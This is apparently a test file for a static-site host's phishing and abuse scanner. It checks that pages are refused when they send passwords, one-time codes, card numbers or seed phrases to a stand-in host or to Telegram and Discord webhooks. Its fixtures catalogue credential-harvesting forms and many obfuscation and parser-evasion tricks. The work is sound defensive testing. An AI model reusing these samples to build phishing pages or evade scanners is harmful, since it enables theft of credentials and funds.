/** PIPELINE.md 3 and RELIABILITY.md A19: what the abuse scan refuses, what it warns of, and what it must leave alone. */
import { describe, expect, test } from "bun:test";
import { judge, judgePage } from "../kit/abuse-site.ts";
import { expectLinear } from "../kit/cpu.ts";

const PASSWORD = `<input type="password" name="password">`;
const login = (action: string, field = PASSWORD) =>
  `<!doctype html><title>Sign in</title><form method="post" action="${action}"><input name="user">${field}<button>Sign in</button></form>`;
const EVIL = "https://collect.example/in.php";

describe("a form that asks for a secret and sends it to another domain is refused", () => {
  const field = (attributes: string, label = "") => login(EVIL, `${label}<input ${attributes}>`);
  test.each([
    ["a password by type", field(`type="password"`)],
    ["a password by type in capitals", field(`TYPE=PASSWORD`)],
    ["a password by type, named by an entity", field(`type="pass&#119;ord"`)],
    ["a password shown as dots", field(`type="text" style="-webkit-text-security: disc"`)],
    ["a password by autocomplete", field(`autocomplete="section-a current-password"`)],
    ["a password by name", field(`name="userPassword"`)],
    ["a password by id", field(`id="login_passwd"`)],
    ["a password by the name pass", field(`name="pass"`)],
    ["a password by a name in one word", field(`name="loginpassword"`)],
    ["a password by another name in one word", field(`id="mypassword"`)],
    ["a password by a French name", field(`name="motdepasse"`)],
    ["a password by a Spanish name", field(`name="contrasena"`)],
    ["a password by placeholder", field(`placeholder="Your password"`)],
    ["a password by a label around it", login(EVIL, `<label>Password <input name="x"></label>`)],
    ["a password by a label for it", login(EVIL, `<label for="x1">Pass&shy;word</label><input id="x1">`)],
    ["a password by aria-label", field(`aria-label="Passwort"`)],
    ["a password in letters that look Latin", field(`placeholder="Pаsswоrd"`)],
    ["a one-time code by autocomplete", field(`autocomplete="one-time-code"`)],
    ["a one-time code by name", field(`name="otp"`)],
    ["a one-time code by label", login(EVIL, `<label>Enter the verification code<input></label>`)],
    ["a card number by autocomplete", field(`autocomplete="cc-number"`)],
    ["a card number by name", field(`name="cardNumber"`)],
    ["a card number by placeholder", field(`placeholder="Card number"`)],
    ["a CVV", field(`name="cvv2"`)],
    ["a CVC", field(`placeholder="CVC"`)],
    [
      "a seed phrase in a text area",
      login(EVIL, `<textarea placeholder="Enter your 12-word recovery phrase"></textarea>`),
    ],
    ["a seed phrase by name", field(`name="seed_phrase"`)],
  ])("%s", (_, html) => expect(judgePage(html)).toBe("abuse_rejected"));
});

describe("where a form sends is resolved as a browser would", () => {
  test.each([
    ["an absolute address", login(EVIL)],
    ["another scheme in capitals", login("HTTPS://COLLECT.example/")],
    ["protocol-relative", login("//collect.example/in")],
    ["backslashes", login("\\\\collect.example\\in")],
    ["slash and backslash", login("/\\collect.example/in")],
    ["a scheme without slashes", login("https:collect.example/in")],
    ["too many slashes", login("https:////collect.example/in")],
    ["white space around", login("  \n https://collect.example/ ")],
    ["line breaks and tabs inside", login("ht\ntps:/\t/collect.exam\nple/")],
    ["control characters before", login("\u0001\u001fhttps://collect.example/")],
    ["entities", login("https&colon;&sol;&sol;collect&period;example&sol;")],
    ["numbered entities without semicolon", login("&#104ttps://collect.example/")],
    ["tab entities", login("ht&Tab;tps://collect.example/&NewLine;")],
    ["an entity in the place of a slash", login("/&#47;collect.example")],
    ["a user name that looks like the site", login("https://index.html@collect.example/")],
    ["a number as an address", login("http://3221226219/")],
    ["an address in IPv6", login("http://[2001:db8::1]/")],
    ["what no parser reads", login("https://col lect.example/")],
    ["ftp", login("ftp://collect.example/")],
    ["<base> and a relative action", `<base href="${EVIL}">${login("in.php")}`],
    ["<base> and #", `<base href="${EVIL}">${login("#")}`],
    ["<base> after the form", `${login("in.php")}<base href="//collect.example">`],
    ["a <base> without href first", `<base target="_self"><base href="${EVIL}">${login("x")}`],
    ["a <base> in a drawing first", `<svg><base href="/"/></svg><base href="${EVIL}">${login("x")}`],
    ["another site of this service", login("https://calm-otter-x3k9.sites.example/in")],
    [
      "javascript: that assigns a location",
      login("javascript:location='https://collect.example/?'+document.forms[0].user.value"),
    ],
    ["javascript: in pieces", login("java&Tab;script&colon;window.location.href=%22//collect.example/%22")],
    ["javascript: with an address nobody can tell", login("javascript:location=atob(this.x)")],
    ["formaction of a button", `<form action="/ok">${PASSWORD}<button formaction="${EVIL}">Go</button></form>`],
    ["formaction of a submit input", `<form>${PASSWORD}<input type="submit" formaction="${EVIL}"></form>`],
    ["formaction of an image", `<form>${PASSWORD}<input type="image" src="x.png" formaction="${EVIL}"></form>`],
    ["a field outside by form=", `<form id="f" action="${EVIL}"></form><input form="f" type="password">`],
    [
      "a field inside another form by form=",
      `<form id="f" action="${EVIL}"></form><form action="/x"><input form=f type=password></form>`,
    ],
    ["a button outside by form=", `<form id="f">${PASSWORD}</form><button form="f" formaction="${EVIL}">Go</button>`],
    ["a form without end", `<form action="${EVIL}"><p>${PASSWORD}`],
    ["a form across elements that close it not", `<div><form action="${EVIL}"></div><table><tr><td>${PASSWORD}`],
    ["a form in a form", `<form action="/ok"><form action="${EVIL}">${PASSWORD}`],
    ["a form after one that never ended", `<form action="${EVIL}"><form action="/ok">${PASSWORD}</form>`],
    [
      "a template's end tag for the form outside",
      `<form action="${EVIL}"><template></form></template>${PASSWORD}</form>`,
    ],
    ["an end tag that leaves a form's element open", `<form action="${EVIL}"><div></form>${PASSWORD}`],
    ["an end tag in an object", `<form action="${EVIL}"><object></form></div>${PASSWORD}`],
    ["an end tag under bold text", `<form action="${EVIL}"><b><div></b></form>${PASSWORD}`],
    ["for those without scripts", `<noscript><form action="${EVIL}">${PASSWORD}</form></noscript>`],
    ["in a template", `<template><form action="${EVIL}">${PASSWORD}</form></template>`],
    ["in a frame's srcdoc", `<iframe srcdoc="&lt;form action='${EVIL}'&gt;&lt;input type=password&gt;"></iframe>`],
    ["in a frame's data:", `<iframe src="data:text/html,<form action='${EVIL}'><input type=password>"></iframe>`],
    ["in a frame's data: in Base64", `<embed src="data:text/html;base64,${btoa(login(EVIL))}">`],
    [
      "a srcdoc under a foreign base",
      `<base href="${EVIL}"><iframe srcdoc="<form action=x><input type=password>"></iframe>`,
    ],
  ])("%s", (_, html) => expect(judgePage(html)).toBe("abuse_rejected"));
});

describe("broken markup hides no form", () => {
  const form = `<form action="${EVIL}">${PASSWORD}</form>`;
  test.each([
    ["an attribute that begins with =", `<a ="x>${form}`],
    ["a quote in an unquoted value", `<a x=y="z>${form}`],
    ["a quote after white space", `<a x =\n"y">${form}`],
    ["an attribute twice", `<form action="${EVIL}" action="/ok">${PASSWORD}</form>`],
    ["a name with a hard space in it", `<form x\u00a0action="/ok" action="${EVIL}">${PASSWORD}</form>`],
    ["a slash between attributes", `<form/action="${EVIL}"/><input/type="password">`],
    ["a comment that ends with --!>", `<!-- --!>${form}`],
    ["a comment that is none", `<!-->${form}<!-- -->`],
    ["a comment of three dashes", `<!--->${form}<!-- -->`],
    ["a comment in an end tag", `</ --${">"}${form}`],
    ["a script with a script in its comment", `<script><!-- <script></script> <textarea> </script>${form}`],
    ["a style in a drawing", `<svg><style><p>${form}</style></svg>`],
    ["a title in a drawing", `<svg><title>${form}</title></svg>`],
    ["a text area in a drawing", `<svg><textarea><div>${form}`],
    ["a script in a drawing", `<svg><script><p>${form}</script></svg>`],
    ["a CDATA section in a drawing", `<svg><![CDATA[ > <!-- ]]></svg>${form}`],
    ["a drawing's form that takes no place", `<svg><form action="/ok"></svg>${form}`],
    ["HTML in a drawing", `<svg><foreignObject>${form}</foreignObject></svg>`],
    ["a drawing that an end tag leaves", `<div><svg><g></div><style><!--</style>${form}`],
    ["HTML in a drawing that is not closed", `<svg><foreignObject><div></foreignObject><style><!--</style>${form}`],
    ["MathML", `<math><mtext><style></math><mi></style></mtext></math>${form}`],
    ["an annotation that is none in SVG", `<svg><annotation-xml encoding="text/html"><noframes></svg>${form}`],
    ["a description that is none in MathML", `<math><desc><style><p>${form}</style>`],
    ["NUL characters before the tag", `\0\0${form}`],
    ["a label that is never closed", `<form action="${EVIL}"><label>Password<input name=x>`],
  ])("%s", (_, html) => expect(judgePage(html)).toBe("abuse_rejected"));
});

describe("every file that a browser shows as a page is read, in every encoding", () => {
  const html = login(EVIL);
  const utf16 = (text: string, mark = "\ufeff") => new Uint8Array(Buffer.from(mark + text, "utf16le"));
  const xhtml = (body: string, head = "") =>
    `<?xml version="1.0"?>${head}<html xmlns="http://www.w3.org/1999/xhtml" xmlns:h="http://www.w3.org/1999/xhtml">${body}</html>`;
  const xmlForm = `<form action="${EVIL}"><input type="password"/></form>`;
  test.each([
    ["UTF-16 with a mark", "a.html", utf16(html)],
    ["big-endian UTF-16 with a mark", "a.html", new Uint8Array(Buffer.from(utf16(html)).swap16())],
    ["UTF-8 with a mark", "a.html", `\ufeff${html}`],
    [
      "an encoding that hides ASCII",
      "a.html",
      new Uint8Array(Buffer.from(`<!-- <meta charset=iso-2022-jp> -->\x1b$B\xff${html}`, "latin1")),
    ],
    ["Windows-1252", "a.html", new Uint8Array(Buffer.from(`\xe9${html}`, "latin1"))],
    [".htm", "docs/a.htm", html],
    [".shtml", "a.shtml", html],
    ["capitals", "A.HTML", html],
    [".xhtml", "a.xhtml", xhtml(xmlForm)],
    [".xhtml with prefixes", "a.xhtml", xhtml(`<h:form action="${EVIL}"><h:input type="password"/></h:form>`)],
    [".xhtml in UTF-16 without a mark", "a.xhtml", utf16(xhtml(`é${xmlForm}`), "")],
    [".xhtml with a form in a style", "a.xhtml", xhtml(`<style>${xmlForm}</style>`)],
    [
      ".xhtml with an entity for the address",
      "a.xhtml",
      xhtml(`<form action="&e;"><input type="password"/></form>`, `<!DOCTYPE html [<!ENTITY e "${EVIL}">]>`),
    ],
    [
      ".xhtml with an entity for the form",
      "a.xhtml",
      xhtml("&f;", `<!DOCTYPE html [<!-- it's --><!ENTITY f '${xmlForm.replaceAll("<", "&#60;")}'>]>`),
    ],
    [".xhtml with an instruction that looks like a comment", "a.xhtml", xhtml(`<?x > <!-- ?>${xmlForm}<!-- -->`)],
    [
      ".svg",
      "a.svg",
      `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="${EVIL}"><input type="password"/></form></foreignObject></svg>`,
    ],
    [".xml", "feed.xml", xhtml(xmlForm)],
    ["a drawing in a folder", "img/logo.SVG", xhtml(xmlForm)],
  ])("%s", (_, path, source) => expect(judge({ [path]: source })).toBe("abuse_rejected"));
});

describe("a page that asks for a password or seed phrase and knows a bot or webhook is refused", () => {
  const bot = "https://api.telegram.org/bot123:ABC/sendMessage";
  const page = (rest: string, field = PASSWORD) => `<title>x</title><form>${field}</form>${rest}`;
  test.each([
    ["a Telegram bot in a script", { "index.html": page(`<script>fetch("${bot}")</script>`) }],
    [
      "a Discord webhook in a script",
      { "index.html": page(`<script>fetch("https://discord.com/api/webhooks/1/x")</script>`) },
    ],
    [
      "a seed phrase and a bot",
      { "index.html": page(`<script>u="${bot}"</script>`, `<textarea name="mnemonic"></textarea>`) },
    ],
    ["an address in pieces", { "index.html": page(`<script>u="https://api.tele" + 'gram.org/bo' + "t1:A"</script>`) }],
    [
      "an address in escapes",
      { "index.html": page(String.raw`<script>u="https:\/\/api.\x74elegram.org\/bot1"</script>`) },
    ],
    ["an address in Base64", { "index.html": page(`<script>u=atob("${btoa(bot)}")</script>`) }],
    [
      "an event attribute",
      { "index.html": page(`<form onsubmit="fetch('https://api&#46;telegram.org/bot1')"></form>`) },
    ],
    ["a data attribute", { "index.html": page(`<div data-hook="${bot}"></div>`) }],
    ["a form that sends by e-mail", { "index.html": `<form action="mailto:me@collect.example">${PASSWORD}</form>` }],
    ["another form that sends by e-mail", { "index.html": page(`<form action="MAILTO&colon;x@y.example"></form>`) }],
    [
      "a script at a data: address",
      { "index.html": page(`<script src="data:text/javascript;base64,${btoa(`fetch("${bot}")`)}"></script>`) },
    ],
    [
      "a file that the page loads",
      { "a/index.html": page(`<script src="../js/x.js"></script>`), "js/x.js": `fetch("${bot}")` },
    ],
    [
      "a file by way of <base>",
      { "index.html": page(`<base href="/js/"><script src="x.js"></script>`), "js/x.js": `fetch("${bot}")` },
    ],
    [
      "a file that a loaded file imports",
      {
        "index.html": page(`<script type=module>import "./a.js"</script>`),
        "a.js": `import {b} from "./b.js"`,
        "b.js": `fetch("${bot}")`,
      },
    ],
    [
      "a bot's host and path apart",
      { "index.html": page(`<script>h="https://api.telegram.org";f(h+"/bot1")</script>`) },
    ],
    ["a bot's host with its port", { "index.html": page(`<script>f("https://api.telegram.org:443/bot1")</script>`) }],
    ["a bot's host with a dot at its end", { "index.html": page(`<script>f("//api.telegram.org./bot1")</script>`) }],
    ["a needless escape", { "index.html": page(String.raw`<script>f("https://api.telegram\.org/bot1")</script>`) }],
    ["an octal escape", { "index.html": page(String.raw`<script>f("https://api.telegram\56org/bot1")</script>`) }],
    ["a line that goes on", { "index.html": page(`<script>f("https://api.tele\\\ngram.org/bot1")</script>`) }],
    [
      "a webhook by its API's version",
      { "index.html": page(`<script>f("//discord.com/api/v10/webhooks/1")</script>`) },
    ],
    [
      "a webhook's host with its port",
      { "index.html": page(`<script>f("//discord.com:443/api/webhooks/1")</script>`) },
    ],
    ["a worker", { "index.html": page(`<script>new Worker("w.js")</script>`), "w.js": `fetch("${bot}")` }],
    [
      "a worker of a module",
      {
        "index.html": page(`<script type=module src="js/a.js"></script>`),
        "js/a.js": `new SharedWorker(new URL("./w.js", import.meta.url))`,
        "js/w.js": `fetch("${bot}")`,
      },
    ],
    [
      "a script that a script in a folder adds to the page",
      {
        "index.html": page(`<script src="js/a.js"></script>`),
        "js/a.js": `s.src = "js/b.js?v=1"`,
        "js/b.js": `fetch("${bot}")`,
      },
    ],
    [
      "a module by way of the import map",
      {
        "index.html": page(
          `<script type=importmap>{"imports":{"x":"./x.js"}}</script><script type=module>import "x"</script>`,
        ),
        "x.js": `fetch("${bot}")`,
      },
    ],
  ])("%s", (_, files: Record<string, string>) => expect(judge(files)).toBe("abuse_rejected"));

  test.each([
    ["a bot's address in the text of a page about bots", { "index.html": page(`<p>Send to <code>${bot}</code></p>`) }],
    ["a link to Discord", { "index.html": page(`<a href="https://discord.com/invite/abc">Chat</a>`) }],
    ["a bot in a file that the page does not load", { "index.html": page(""), "bot.js": `fetch("${bot}")` }],
    [
      "a bot on a page without password",
      { "index.html": `<form><input type=email></form><script>fetch("${bot}")</script>` },
    ],
    [
      "a form by e-mail that asks for a name",
      { "index.html": `<form action="mailto:a@b.example"><input name=name></form>` },
    ],
  ])("but not %s", (_, files: Record<string, string>) => expect(judge(files)).toBe("pass"));

  test("a file in UTF-16 with a mark", () => {
    const script = new Uint8Array(Buffer.from(`\ufefffetch("${bot}")`, "utf16le"));
    expect(judge({ "index.html": page(`<script src="a.js"></script>`), "a.js": script })).toBe("abuse_rejected");
  });
});

describe("must pass", () => {
  test.each([
    [
      "Stripe's payment link and frame",
      `<script src="https://js.stripe.com/v3/"></script><form action="https://checkout.stripe.com/pay/cs_1" method="POST"><input name="email" type="email"><div id="card-element"></div><button>Pay</button></form><iframe src="https://js.stripe.com/v3/elements.html"></iframe>`,
    ],
    [
      "a PayPal button",
      `<form action="https://www.paypal.com/cgi-bin/webscr" method="post"><input type="hidden" name="cmd" value="_s-xclick"><input type="hidden" name="hosted_button_id" value="X1"><input type="image" src="https://www.paypalobjects.com/en_US/i/btn.gif" name="submit" alt="PayPal - The safer, easier way to pay online!"></form>`,
    ],
    [
      "Paddle",
      `<script src="https://cdn.paddle.com/paddle/v2/paddle.js"></script><a href="#" class="paddle_button" data-items='[{"priceId":"pri_1"}]'>Buy</a><form action="https://checkout.paddle.com/x"><input type="email" name="customer_email"></form>`,
    ],
    [
      "Mailchimp",
      `<form action="https://x.us1.list-manage.com/subscribe/post?u=1&amp;id=2" method="post"><label for="mce-EMAIL">Email Address</label><input type="email" name="EMAIL" id="mce-EMAIL"><div aria-hidden="true"><input type="text" name="b_1_2" tabindex="-1"></div><input type="submit" value="Subscribe"></form>`,
    ],
    [
      "Buttondown",
      `<form action="https://buttondown.com/api/emails/embed-subscribe/x" method="post"><label for="bd-email">Enter your email</label><input type="email" name="email" id="bd-email"></form>`,
    ],
    [
      "Formspree",
      `<form action="https://formspree.io/f/abc" method="POST"><label>Name<input name="name"></label><label>Message<textarea name="message" placeholder="Do not put passwords in here, please"></textarea></label></form>`.replace(
        ` placeholder="Do not put passwords in here, please"`,
        "",
      ),
    ],
    [
      "Google's search box",
      `<form action="https://www.google.com/search"><input name="q" placeholder="Search"></form>`,
    ],
    ["DuckDuckGo's search box", `<form action="https://duckduckgo.com/"><input type="search" name="q"></form>`],
    [
      "OAuth links and buttons",
      `<title>Notes</title><form action="/login">${PASSWORD}</form><a href="https://accounts.google.com/o/oauth2/v2/auth?x"><img alt="Google" src="g.svg"> Sign in with Google</a><button type="button" onclick="oauth('facebook')"><img alt="Facebook" src="f.svg"></button><a href="/auth/apple"><img alt="Apple" src="a.svg"></a><a class="btn" href="#"><img src="m.svg" alt="Sign in with Microsoft"></a>`,
    ],
    ["an empty action", login("")],
    ["#", login("#")],
    ["?", login("?next=/home")],
    ["a relative action", login("auth/login.php")],
    ["a root-absolute action", login("/api/login")],
    ["no action", `<form>${PASSWORD}</form>`],
    ["javascript:void(0)", login("javascript:void(0);")],
    ["javascript: that moves on the site itself", login("javascript:location='/home'")],
    [
      "an admin template",
      `<title>Dashboard</title><form class="user"><input type="password" class="form-control" placeholder="Password"><a href="index.html" class="btn">Login</a></form><a href="https://www.facebook.com/us"><img alt="Facebook"></a>`,
    ],
    [
      "Bootstrap's sign-in",
      `<title>Signin Template · Bootstrap</title><main class="form-signin"><form><img class="mb-4" src="/docs/5.3/assets/brand/bootstrap-logo.svg" alt=""><div class="form-floating"><input type="email" id="floatingInput"><label for="floatingInput">Email address</label></div><div><input type="password" id="floatingPassword" placeholder="Password"><label for="floatingPassword">Password</label></div></form></main>`,
    ],
    [
      "a password generator",
      `<title>Password generator</title><input type="password" id="result" readonly><button onclick="navigator.clipboard.writeText(result.value)">Copy</button>`,
    ],
    [
      "a password field in one form, a newsletter in another",
      `${login("/login")}<form action="https://buttondown.com/x"><input type=email name=email></form>`,
    ],
    [
      "a newsletter whose form ends crookedly before a sign-in",
      `<form action="https://x.list-manage.com/s"><div><input type=email></form></div>${login("/login")}`,
    ],
    [
      "a form that ends in a paragraph before a password field",
      `<form action="https://x.list-manage.com/s"><p><input type=email></form>${PASSWORD}`,
    ],
    [
      "documentation of phishing",
      `<title>How phishing works</title><p>Pages that look like PayPal ask for your password.</p><pre>&lt;form action="https://evil.example"&gt;&lt;input type="password"&gt;&lt;/form&gt;</pre><p>Never type your recovery phrase anywhere.</p>`,
    ],
    [
      "a contact form that speaks of passwords",
      `<form action="https://formspree.io/f/x"><textarea placeholder="Please never send us your password"></textarea></form>`,
    ],
    [
      "a contact form that speaks of cards",
      `<form action="https://formspree.io/f/x"><label>Message (no credit card numbers, please)<textarea></textarea></label></form>`,
    ],
    [
      "a sign-in with an icon for home screens",
      `<link rel="apple-touch-icon" href="/apple-touch-icon.png">${login("/in")}`,
    ],
    ["the same as generators name it", `<link rel="apple-touch-icon" href="i/apple-icon-180x180.png">${login("/in")}`],
    ["a form in a comment", `<!-- ${login(EVIL)} -->`],
    ["a form in a text area", `<textarea>${login(EVIL)}</textarea>`],
    ["a form in a script's text", `<script>const example = \`${login(EVIL)}\`</script>`],
    [
      "atob( in a framework's bundle",
      `<script>function d(e){return JSON.parse(atob(e))}document.addEventListener("contextmenu",e=>open(e))</script>`,
    ],
    [
      "passenger, hotpot, business card, boarding pass",
      `<form action="${EVIL}"><input name="passenger"><input name="hotpot"><label>Business card number<input></label><label>Boarding pass<input name="ticket"></label><input name="compass"><input name="scotpass_id"></form>`,
    ],
    [
      "a library card",
      `<form action="https://catalogue.example/login"><label>Library card number <input name="borrower"></label></form>`,
    ],
    [
      "fields that nobody types a secret into",
      `<form action="${EVIL}"><input type="hidden" name="password" value="x"><input type="checkbox" name="show_password"><input type="radio" name="card-number"><input type="submit" name="pwd"></form>`,
    ],
    ["a button of another kind", `<form>${PASSWORD}<button type="button" formaction="${EVIL}">x</button></form>`],
    [
      "a foreign form that asks for no secret",
      `<form action="${EVIL}"><input name="address"><input name="birthday"></form>${PASSWORD}`,
    ],
    ["a field that belongs to no form", `<form action="${EVIL}"><input form="none" type="password"></form>`],
    [
      "an inline icon with title and style",
      `<svg><title>Menu</title><style>.a{fill:red}</style><path/></svg>${login("/x")}`,
    ],
  ])("%s", (_, html) => expect(judgePage(html)).toBe("pass"));
});

describe("a form that leads visitors to themselves is warned of, and never refused", () => {
  test.each([
    ["http://localhost:3000/login", "localhost_url"],
    ["http://app.localhost/login", "localhost_url"],
    ["//127.0.0.1:8080", "localhost_url"],
    ["http://2130706433/", "localhost_url"],
    ["http://[::1]:8000/", "localhost_url"],
    ["http://[::ffff:127.0.0.1]/login", "localhost_url"],
    ["http://192.168.1.10/login", "private_network_url"],
    ["http://10.0.0.7/", "private_network_url"],
    ["http://printer.local/", "private_network_url"],
    ["http://[fd00::1]/", "private_network_url"],
    ["http://127.0.0.1.collect.example/", "abuse_rejected"],
    ["http://localhost.collect.example/", "abuse_rejected"],
  ])("%s: %s", (action, verdict) => expect(judgePage(login(action))).toBe(verdict));
});

describe("a site's own names are its own", () => {
  const own = { slug: "calm-otter-x3k9" };
  test.each([
    ["its host", "https://calm-otter-x3k9.sites.example/login", own, "pass"],
    ["its host by http, with a port and a dot", "http://CALM-otter-x3k9.sites.example.:8080/login", own, "pass"],
    ["one of its versions", "https://0123456789abcdef--calm-otter-x3k9.sites.example/", own, "pass"],
    ["a sibling", "https://red-fox-1234.sites.example/", own, "abuse_rejected"],
    ["a name below its own", "https://x.calm-otter-x3k9.sites.example/", own, "abuse_rejected"],
    ["a name that ends like its own", "https://evilcalm-otter-x3k9.sites.example/", own, "abuse_rejected"],
    ["its slug elsewhere", "https://calm-otter-x3k9.sites.example.evil.example/", own, "abuse_rejected"],
    ["any name, as long as the site has none", "https://calm-otter-x3k9.sites.example/login", {}, "abuse_rejected"],
  ])("%s", (_, action, site, verdict) => expect(judgePage(login(action), site)).toBe(verdict));
});

describe("a page that cannot be read in the bound is refused with too_complex", () => {
  const nested = (depth: number): string =>
    depth === 0
      ? "x"
      : `<iframe srcdoc="${nested(depth - 1)
          .replaceAll("&", "&amp;")
          .replaceAll('"', "&quot;")}"></iframe>`;
  const lol = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("");
  test.each([
    ["frames in frames", "a.html", nested(6)],
    ["entities in entities", "a.svg", `<!DOCTYPE svg [<!ENTITY l0 "lol">${lol}]><svg>&l9;</svg>`],
    ["entities that name themselves", "a.svg", `<!DOCTYPE svg [<!ENTITY a "&a;&a;">]><svg>&a;</svg>`],
    ["attributes by document type", "a.xhtml", `<!DOCTYPE html [<!ATTLIST form action CDATA "${EVIL}">]><html/>`],
    ["bases without end", "a.html", "<base href=x>".repeat(1000)],
    ["forms in forms without end", "a.html", "<form>".repeat(1000)],
  ])("%s", (_, path, source) => expect(judge({ [path]: source })).toBe("too_complex"));

  test("three frames in each other are fine", () => expect(judgePage(nested(3))).toBe("pass"));
  type Fill = (piece: string) => string;
  test.each<[what: string, html: (fill: Fill) => string]>([
    ["open elements and end tags without partner", (fill) => fill("<b></i>")],
    ["drawings", (fill) => fill("<svg><desc><b></q>")],
    ["labels", (fill) => fill("<label>x<input>")],
    ["links", (fill) => fill("<a href=x>y")],
    ["comments never closed", (fill) => fill("<!--")],
    ["quotes", (fill) => fill(`<a x="`)],
    ["scripts in comments", (fill) => `<script><!--${fill("<script></script>")}`],
    ["instructions", (fill) => fill("<?x ")],
    ["logos beside a password field", (fill) => `<input type=password>${fill("<img alt=a>")}`],
    ["fields beside recovery phrases", (fill) => "<input>".repeat(fill("x").length / 330) + fill("seed phrase ")],
    ["forms", (fill) => fill("<form action=/x></form>")],
    ["frames", (fill) => fill('<iframe srcdoc="<b>">')],
    ["fields with labels", (fill) => fill(`<input id=x type=text placeholder="a b c">`)],
  ])(
    "6 MB of %s are read in good time",
    (_, html) => {
      const pageOf = (size: number) => html((piece) => piece.repeat(Math.floor(size / piece.length)));
      expectLinear(6 << 20, pageOf, judgePage);
    },
    20_000,
  );
});

describe("what is suspicious is warned of", () => {
  const words = (count: number) => `<input type="text" name="w">`.repeat(count);
  test.each([
    [
      "a brand in the title over a password field",
      `<title>PayPal – Log in</title>${login("/x")}`.replace("<title>Sign in</title>", ""),
      "borrowed_brand",
    ],
    ["a brand in letters that look Latin", `<title>РayPal</title>${PASSWORD}`, "borrowed_brand"],
    ["a logo", `<title>Sign in</title><img src="l.png" alt="Microsoft">${PASSWORD}`, "borrowed_brand"],
    [
      "a logo in a link to nowhere",
      `<title>Sign in</title><a href="#"><img src="l.png" alt="Netflix logo"></a>${PASSWORD}`,
      "borrowed_brand",
    ],
    ["a drawn logo", `<svg><title>DHL</title></svg>${PASSWORD}`, "borrowed_brand"],
    [
      "a brand's own icon",
      `<link rel="shortcut icon" href="https://www.paypalobjects.com/x.ico">${PASSWORD}`,
      "borrowed_brand",
    ],
    ["a brand without password field", `<title>PayPal alternatives</title>`, "pass"],
    ["12 words of a recovery phrase", `<p>Enter your recovery phrase</p>${words(12)}`, "recovery_phrase"],
    ["24 words of a seed phrase", `<h1>Import wallet</h1><p>Seed phrase</p>${words(24)}`, "recovery_phrase"],
    [
      "a text area for a recovery phrase",
      `<p>Type your secret recovery phrase</p><textarea></textarea>`,
      "recovery_phrase",
    ],
    [
      "a comment below an article about recovery phrases",
      `<p>Keep your recovery phrase safe.</p><textarea name="comment"></textarea>`,
      "pass",
    ],
    ["12 fields of something else", `<p>Your twelve favourite words</p>${words(12)}`, "pass"],
    ["a card's number and code", `<input autocomplete="cc-number"><input name="cvv">`, "card_fields"],
    [
      "a card's number and code beside a payment frame",
      `<input autocomplete="cc-number"><input name="cvv"><iframe src="https://js.stripe.com/v3/x.html"></iframe>`,
      "pass",
    ],
    [
      "a refresh to another domain",
      `<meta http-equiv="refresh" content="0; URL='https://other.example/'">`,
      "fast_redirect",
    ],
    ["a refresh after a minute", `<meta http-equiv="refresh" content="60; url=https://other.example/">`, "pass"],
    ["a refresh on the site itself", `<meta http-equiv="refresh" content="0; url=/docs/">`, "pass"],
    [
      "a script that moves to another domain",
      `<script>window.location.replace("https://other.example/")</script>`,
      "fast_redirect",
    ],
    [
      "a script that moves after three seconds",
      `<script>setTimeout(function(){ location.href = "//other.example" }, 3000)</script>`,
      "fast_redirect",
    ],
    [
      "a script that moves after a minute",
      `<script>setTimeout(() => { location.href = "//other.example" }, 60000)</script>`,
      "pass",
    ],
    [
      "a refresh on a page with much text",
      `<meta http-equiv="refresh" content="0; url=https://other.example/"><p>${"words ".repeat(200)}</p>`,
      "pass",
    ],
    [
      "a check for humans that writes to the clipboard",
      `<p>Verify you are human</p><button onclick="navigator.clipboard.writeText('powershell -c …')">OK</button>`,
      "fake_human_check",
    ],
    ["a button that copies", `<button onclick="navigator.clipboard.writeText('npm i svc')">Copy</button>`, "pass"],
    [
      "hidden code and no menu",
      `<body oncontextmenu="return false"><script>eval(atob("YQ=="))</script>`,
      "hidden_code",
    ],
    [
      "long escapes and no menu",
      `<script>document.write(unescape("${"%3C".repeat(200)}"));document.addEventListener("contextmenu", e => { e.preventDefault() })</script>`,
      "hidden_code",
    ],
    ["hidden code alone", `<script>eval(atob("YQ=="))</script>`, "pass"],
    ["a program behind a link", `<a href="https://files.example/setup.exe?x">Download</a>`, "program_download"],
    ["a program by its download name", `<a href="/x" download="invoice.lnk">Invoice</a>`, "program_download"],
  ])("%s", (_, html, verdict) => expect(judgePage(html)).toBe(verdict));

  test("what the page's files do counts as what the page does", () => {
    const page = `<title>x</title><script src="a.js"></script><p>Verify you are human</p>`;
    expect(judge({ "index.html": page, "a.js": `navigator.clipboard.writeText("x")` })).toBe("fake_human_check");
  });
  test("programs in the upload", () => {
    for (const name of ["setup.exe", "a/b.scr", "disc.ISO", "app.apk", "x.hta", "x.lnk"]) {
      expect(judge({ [name]: "MZ" })).toBe("program_download");
    }
    expect(judge({ "setup.exe": "MZ", "index.html": `<a href="setup.exe">Get it</a>` }, { anonymous: false })).toBe(
      "pass",
    );
  });
  test("the brand list is the operator's: name, then its domains", () => {
    const page = `<title>Sign in to Acme Bank</title>${PASSWORD}`;
    expect(judgePage(page)).toBe("pass");
    const brands = `# ours\n"Acme Bank" acme.example www.acme.test # a comment\nnonsense\n`;
    expect(judgePage(page, { brands })).toBe("borrowed_brand");
    expect(judgePage(page, { brands, sites_domain: "pages.acme.example" })).toBe("pass");
    expect(judgePage(`<title>PayPal</title>${PASSWORD}`, { brands: "" })).toBe("pass");
  });
});
